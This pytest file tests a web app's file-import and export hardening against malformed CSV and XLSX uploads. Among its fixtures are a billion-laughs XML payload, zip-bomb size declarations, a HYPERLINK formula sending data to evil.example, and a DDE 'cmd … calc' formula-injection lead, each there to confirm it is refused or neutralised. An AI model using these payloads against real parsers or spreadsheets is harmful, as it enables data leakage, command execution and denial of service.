"""Files cannot hurt: every file the import cannot read gets one clear message, a 400 and no row saved; bombs
stop early; a crashed background import can be confirmed again; exports write text as text; an upload
over the limit gets the app's own page."""
import datetime as dt
import html
import io
import os
import re
import struct
import threading
import time
import types
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.models import Employee
from app.services import import_files, imports
from tests.conftest import csrf_token
from tests.helpers import agency_id, count, database
from tests.test_imports import confirm, nip, person, preview_of, upload, xlsx

UNREADABLE = "This file cannot be read. Open it in Excel and save it as an Excel workbook (.xlsx) or as"
SHEET = "xl/worksheets/sheet1.xml"
MAIN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
CSV_HEADER = "NIP,Nama,Unit Kerja\n"


def with_member(data: bytes, name: str, content: bytes | None) -> bytes:
    """The workbook with one member replaced (or removed when ``content`` is None)."""
    source, output = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
        if content is not None:
            target.writestr(name, content)
    return output.getvalue()


def sheet_of_rows(rows_xml: bytes, tail: bytes = b"</sheetData></worksheet>") -> bytes:
    header = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % text for text in (b"NIP", b"Nama", b"Unit Kerja"))
    return with_member(xlsx([]), SHEET, MAIN + b"<row>" + header + b"</row>" + rows_xml + tail)


def declaring_size(data: bytes, name: str, size: int) -> bytes:
    """The zip with the unpacked size of ``name`` in its central directory replaced: what a bomb declares."""
    patched = bytearray(data)
    entry = patched.find(b"PK\x01\x02")
    while entry != -1:
        name_length = struct.unpack_from("<H", patched, entry + 28)[0]
        if patched[entry + 46:entry + 46 + name_length] == name.encode():
            struct.pack_into("<I", patched, entry + 24, size)
            return bytes(patched)
        entry = patched.find(b"PK\x01\x02", entry + 4)
    raise AssertionError(name)


def not_a_workbook() -> bytes:
    """A zip that is no workbook (e.g. a document renamed .xlsx): content types, but no workbook part."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                                                'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        archive.writestr("word/document.xml", "<document/>")
    return output.getvalue()


UNREADABLE_FILES = [
    ("malformed sheet XML", lambda: with_member(xlsx([person(601)]), SHEET, MAIN + b"<row><c><v>1</v></row>"),
     "siasn.xlsx"),
    ("zip without a workbook", not_a_workbook, "siasn.xlsx"),
    ("sheet missing from the zip", lambda: with_member(xlsx([person(601)]), SHEET, None), "siasn.xlsx"),
    ("UTF-16 without a byte-order mark", lambda: (CSV_HEADER + f"{nip(601)},Ani,DISDIKBUD-SEK\n").encode("utf-16-le"),
     "pegawai.csv"),
    *[(f"byte 0x{byte:02X}, undefined in Windows-1252",
       lambda byte=byte: CSV_HEADER.encode() + f"{nip(601)},Ani".encode() + bytes([byte]) + b",DISDIKBUD-SEK\n",
       "pegawai.csv") for byte in (0x81, 0x8D, 0x8F, 0x90, 0x9D)],
    ("field over 131,072 characters", lambda: (CSV_HEADER + f"{nip(601)},{'a' * 140_000},DISDIKBUD-SEK\n").encode(),
     "pegawai.csv"),
    ("Shift-JIS", lambda: (CSV_HEADER + f"{nip(601)},田中花子,DISDIKBUD-SEK\n{nip(602)},ナカ,DISDIKBUD-SEK\n")
     .encode("shift_jis"), "pegawai.csv"),
    ("Windows-1251 Cyrillic", lambda: (CSV_HEADER + f"{nip(601)},Иванов,DISDIKBUD-SEK\n").encode("cp1251"),
     "pegawai.csv"),
    ("a row longer than a megabyte", lambda: sheet_of_rows(b"<row>" + b"<c><v>1</v></c>" * 100_000 + b"</row>"),
     "siasn.xlsx"),
    ("entity expansion (billion laughs)", lambda: with_member(xlsx([]), SHEET, b"".join(
        [b'<!DOCTYPE w [<!ENTITY a0 "ha">'] + [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9)]
        + [b"]>", MAIN, b'<row><c t="inlineStr"><is><t>&a8;</t></is></c></row></sheetData></worksheet>'])),
     "siasn.xlsx"),
    ("styles part declaring 5 MB", lambda: declaring_size(xlsx([person(601)]), "xl/styles.xml", 5 * 1024 * 1024),
     "siasn.xlsx"),
]


@pytest.mark.parametrize("name, make, filename", UNREADABLE_FILES, ids=[case[0] for case in UNREADABLE_FILES])
def test_an_unreadable_file_gets_one_clear_message_and_saves_nothing(as_user, name, make, filename):
    employees = count(Employee)
    response = upload(as_user("hr.bkpsdm"), make(), filename=filename)
    assert response.status_code == 400
    assert UNREADABLE in response.get_data(as_text=True)
    assert count(Employee) == employees


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_csv_is_read_in_the_encoding_excel_saved_it_in(as_user, encoding):
    serial = 610 + ["utf-8", "utf-8-sig", "utf-16", "cp1252"].index(encoding)
    text = f"NIP;Nama;Unit Kerja\r\n{nip(serial)};José Müller-Françoise;DISDIKBUD-SEK\r\n"
    client = as_user("hr.bkpsdm")
    url, page, counts = preview_of(client, text.encode(encoding), filename="pegawai.csv")
    assert counts["create"] == 1, page
    assert confirm(client, url).status_code == 302
    with database() as session:
        assert session.scalar(select(Employee.name).where(Employee.nip == nip(serial))) == "José Müller-Françoise"


def test_control_characters_reject_their_row_with_the_reason(as_user):
    rows = [f"{nip(621)},Budi Santoso,DISDIKBUD-SEK", f"{nip(622)},Budi\x00Santoso,DISDIKBUD-SEK",
            f"{nip(623)},Ani,DISDIKBUD\x1b[31m-SEK"]
    client = as_user("hr.bkpsdm")
    url, page, counts = preview_of(client, (CSV_HEADER + "\n".join(rows) + "\n").encode(), filename="pegawai.csv")
    page = html.unescape(page)
    assert counts == {"create": 1, "update": 0, "unchanged": 0, "rejected": 2}
    assert page.count("holds an invisible control character") == 2
    assert 'The column "Nama"' in page and 'The column "Unit Kerja"' in page
    assert "\x00" not in page and "Budi\ufffdSantoso" in page
    confirm(client, url)
    assert count(Employee, nip=nip(621)) == 1
    assert count(Employee, nip=nip(622)) == count(Employee, nip=nip(623)) == 0


def test_a_sheet_over_the_row_cap_stops_being_read_at_the_cap(as_user):
    # 60,000 tiny rows, then XML that does not parse: reading must stop at the cap, long before the end.
    bomb = sheet_of_rows(b'<row><c t="inlineStr"><is><t>1</t></is></c></row>' * 60_000, tail=b"<row><c><v>")
    employees = count(Employee)
    response = upload(as_user("hr.bkpsdm"), bomb)
    assert response.status_code == 400
    assert "A file may hold at most 50,000 rows; split it into several files." in response.get_data(as_text=True)
    assert count(Employee) == employees


def test_a_row_numbered_beyond_the_cap_is_refused_without_filling_the_gap(as_user):
    response = upload(as_user("hr.bkpsdm"), sheet_of_rows(b'<row r="1048576"><c><v>1</v></c></row>'))
    assert response.status_code == 400 and "at most 50,000 rows" in response.get_data(as_text=True)


def test_what_follows_the_sheet_data_is_never_parsed(as_user):
    # Merged cells, hyperlinks, print settings: not data, and a bomb's favourite place. Here: broken XML.
    data = xlsx([person(691)])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read(SHEET).replace(b"</sheetData>", b"</sheetData><mergeCells><broken")
    _, _, counts = preview_of(as_user("hr.bkpsdm"), with_member(data, SHEET, sheet))
    assert counts["create"] == 1


@pytest.mark.parametrize("limit, value", [("MAX_SHEET_CELLS", 30), ("MAX_SHARED_STRINGS", 3)])
def test_the_cell_and_string_budgets_refuse_a_file_beyond_them(as_user, monkeypatch, limit, value):
    monkeypatch.setattr(import_files, limit, value)  # the real budgets need files of hundreds of megabytes
    response = upload(as_user("hr.bkpsdm"), shared_strings_workbook([person(692), person(693), person(694)]))
    assert response.status_code == 400 and UNREADABLE in response.get_data(as_text=True)


def test_a_zip_member_declaring_a_huge_size_is_refused_before_parsing(as_user):
    bomb = declaring_size(xlsx([person(631)]), SHEET, 0xFFFF_FFF0)
    employees = count(Employee)
    response = upload(as_user("hr.bkpsdm"), bomb)
    assert response.status_code == 400
    assert "This workbook unpacks to more than 256 MB" in response.get_data(as_text=True)
    assert count(Employee) == employees


def shared_strings_workbook(rows) -> bytes:
    """The rows as Excel writes them, texts in a shared-string table (openpyxl, the tests' writer, inlines them)."""
    data = xlsx(rows)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read(SHEET).decode()
    texts = []

    def shared(match):
        texts.append(match.group(2))
        return f'<c r="{match.group(1)}" t="s"><v>{len(texts) - 1}</v></c>'

    sheet = re.sub(r'<c r="([A-Z]+\d+)" t="inlineStr"><is><t>([^<]*)</t></is></c>', shared, sheet)
    table = "".join(f"<si><t>{text}</t></si>" for text in texts)
    data = with_member(data, SHEET, sheet.encode())
    data = with_member(data, "xl/sharedStrings.xml", (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{table}</sst>').encode())
    types_xml = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return with_member(data, "[Content_Types].xml", types_xml)


def test_a_workbook_with_shared_strings_as_excel_writes_it(as_user):
    url, page, counts = preview_of(as_user("hr.bkpsdm"), shared_strings_workbook([person(641)]))
    assert counts["create"] == 1 and "Budi Santoso, S.Kom." in page


# --- a crash during a background import ------------------------------------------------------------

def wait_for_end(client, progress_url, seconds=20):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        job = client.get(progress_url).json
        if job["state"] != "running":
            return job
        time.sleep(0.1)
    return job


def start_in_background(app, client, url):
    app.config["IMPORT_INLINE_ROWS"] = 0
    try:
        response = confirm(client, url)
    finally:
        app.config.pop("IMPORT_INLINE_ROWS")
    assert response.headers["Location"].endswith("/progress")
    return response.headers["Location"].split("localhost")[-1] + ".json"


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_a_background_import_whose_thread_dies_can_be_confirmed_again(app, as_user, monkeypatch):
    client = as_user("hr.bkpsdm")
    url, _, _ = preview_of(client, xlsx([person(651), person(652)]))

    def dies(token, progress=None):
        raise SystemExit  # ends the thread without a word, as a killed job would

    monkeypatch.setattr(imports, "confirm", dies)
    job = wait_for_end(client, start_in_background(app, client, url))
    assert job["state"] == "failed" and "stopped unexpectedly" in job["message"]
    assert count(Employee, nip=nip(651)) == 0

    monkeypatch.undo()
    assert 'id="import-retry"' in client.get(url + "/progress").get_data(as_text=True)
    job = wait_for_end(client, start_in_background(app, client, url))
    assert job["state"] == "done" and "2 created" in job["message"]
    assert count(Employee, nip=nip(652)) == 1


def test_a_background_import_whose_process_died_reads_as_interrupted(app, as_user, monkeypatch):
    client = as_user("hr.bkpsdm")
    url, _, _ = preview_of(client, xlsx([person(661)]))

    class NeverRuns:  # the process dies before the job's threads run: only the files on disk remain
        def __init__(self, *args, **kwargs):
            pass

        def start(self):
            pass

    monkeypatch.setattr(imports, "threading", types.SimpleNamespace(Thread=NeverRuns, get_ident=threading.get_ident))
    progress_url = start_in_background(app, client, url)
    monkeypatch.undo()
    assert client.get(progress_url).json["state"] == "running"  # a fresh heartbeat: it may still be working
    token = url.rstrip("/").rsplit("/", 1)[-1]
    heartbeat = Path(app.config["UPLOAD_FOLDER"]) / "imports" / f"{token}.heartbeat"
    old = time.time() - imports.STALE_AFTER_SECONDS - 1
    os.utime(heartbeat, (old, old))

    job = client.get(progress_url).json
    assert job["state"] == "failed" and "stopped unexpectedly" in job["message"]
    job = wait_for_end(client, start_in_background(app, client, url))
    assert job["state"] == "done" and count(Employee, nip=nip(661)) == 1


# --- exports: text stays text ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak","Klik di sini")'


def cells_of(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.data))


def test_the_adoption_export_writes_an_imported_formula_as_text(as_user):
    client = as_user("hr.bkpsdm")
    csv_text = CSV_HEADER + f'{nip(671)},"{FORMULA.replace(chr(34), chr(34) * 2)}",DISDIKBUD-SEK\n'
    url, _, counts = preview_of(client, csv_text.encode(), filename="pegawai.csv")
    assert counts["create"] == 1
    confirm(client, url)
    sheet = cells_of(client.get(f"/adoption/{agency_id('DISDIKBUD')}/xlsx")).active
    name = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == nip(671))
    assert name.value == FORMULA and name.data_type == "s" and name.quotePrefix


def test_the_ikm_export_writes_a_citizens_suggestion_as_text(app, as_user, skm):
    answers = {f"U{number}": 3 for number in range(1, 10)}
    citizen = app.test_client()
    form_token = citizen.get(f"/api/v1/public/survey/{skm['code']}/form-token").json["form_token"]
    response = citizen.post(f"/api/v1/public/survey/{skm['code']}", environ_base={"REMOTE_ADDR": "10.7.1.1"},
                            json={"answers": answers, "suggestion": FORMULA, "form_token": form_token})
    assert response.status_code == 201, response.json
    workbook = cells_of(as_user("admin.dinkes").get(f"/ikm/unit/{skm['unit_id']}/{skm['periods']['open']}/xlsx"))
    suggestion = next(row[1] for row in workbook.worksheets[1].iter_rows(min_row=2) if row[1].value == FORMULA)
    assert suggestion.data_type == "s" and suggestion.quotePrefix


def test_a_list_export_writes_every_formula_lead_as_text_and_keeps_numbers(as_user):
    client = as_user("hr.bkpsdm")
    leads = ["@SUM(1+1)*cmd zqxj", "+1+cmd|' /C calc'!A0 zqxj", "-2+3 zqxj"]
    csv_text = CSV_HEADER + "".join(f"{nip(681 + n)},{text},DISDIKBUD-SEK\n" for n, text in enumerate(leads))
    url, _, counts = preview_of(client, csv_text.encode(), filename="pegawai.csv")
    assert counts["create"] == 3
    confirm(client, url)
    sheet = cells_of(client.get("/employeeview/export/?_flt_2_name=zqxj")).active
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for text in leads:
        assert names[text].data_type == "s" and names[text].quotePrefix, text


def test_the_writer_neutralises_text_only(app):
    from app.excel import Bold, Sheet, workbook_bytes

    texts = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]
    with app.test_request_context():
        signed_at = dt.datetime(2026, 1, 5, 1, 30, tzinfo=dt.timezone.utc)  # openpyxl refuses time zones
        data = workbook_bytes([Sheet("Uji/[1]", [Bold(["Kolom"]),
                                                 [*texts, -5, -1.5, "Budi", True, "a\x00b", signed_at]])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Uji--1-"
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells[:6]] == [
        (text, "s", True) for text in texts]
    assert [(cell.value, cell.data_type) for cell in cells[6:8]] == [(-5, "n"), (-1.5, "n")]
    assert (cells[8].value, cells[8].quotePrefix) == ("Budi", False)
    assert cells[9].value in ("Ya", "Yes") and cells[10].value == "ab"
    assert cells[11].value == dt.datetime(2026, 1, 5, 9, 30)  # in the reader's time zone (WITA)


# --- uploads over the limit ----------------------------------------------------------------------------

def test_an_upload_over_the_limit_gets_the_apps_page_with_the_way_back(app, as_user):
    client = as_user("hr.bkpsdm")
    client.get("/lang/en")
    body = b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = client.post("/import/", data=body, content_type="multipart/form-data; boundary=x",
                           headers={"Referer": "http://localhost/import/?kind=unit"})
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "an upload may be at most 10 MB" in page and 'href="/import/?kind=unit"' in page
    assert "navbar" in page  # the app's own layout, not werkzeug's bare page


def test_an_api_upload_over_the_limit_answers_json(app):
    body = b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = app.test_client().post("/api/v1/public/survey/DINKES-PKM-TJS?_l_=en", data=body,
                                      content_type="application/json")
    assert response.status_code == 413
    assert response.json["message"] == "The file is too large: an upload may be at most 10 MB."
